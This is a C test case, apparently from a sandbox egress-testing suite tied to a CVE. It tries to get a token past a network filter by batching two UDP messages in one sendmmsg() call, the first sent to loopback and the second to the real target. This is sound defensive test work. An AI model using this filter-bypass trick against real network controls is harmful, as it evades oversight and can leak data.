// SPDX-License-Identifier: Apache-2.0
/* Several at once: the first to loopback, so that who looks at the first only is content. */
#include "../wire.h"

#include <string.h>
#include <unistd.h>

static void attempt(const struct target *t, struct attempt *a)
{
	const char *to[2] = { loopback(t->family), t->addr };
	struct iovec iov = { (void *)t->token, strlen(t->token) };
	struct sockaddr_storage ss[2];
	struct mmsghdr m[2];
	int fd = udp_open(t, a), sent;

	if (fd < 0)
		return;
	memset(m, 0, sizeof(m));
	for (int i = 0; i < 2; i++) {
		m[i].msg_hdr.msg_name = &ss[i];
		m[i].msg_hdr.msg_namelen = sa_make(t->family, to[i], t->port, &ss[i]);
		m[i].msg_hdr.msg_iov = &iov;
		m[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, m, 2, 0);
	/* Where loopback is refused the call ends with the first: the second is tried alone. */
	if (sent < 2 && sendmmsg(fd, m + 1, 1, 0) < 1)
		failed(a, "sendmmsg");
	close(fd);
}

CASE(udp_sendmmsg) = { .title = "UDP, sendmmsg()",
		       .source = "field C30: CVE-2026-25598",
		       .group = "udp",
		       .families = FOUR | SIX,
		       .settings = EVERYWHERE,
		       .attempt = attempt };
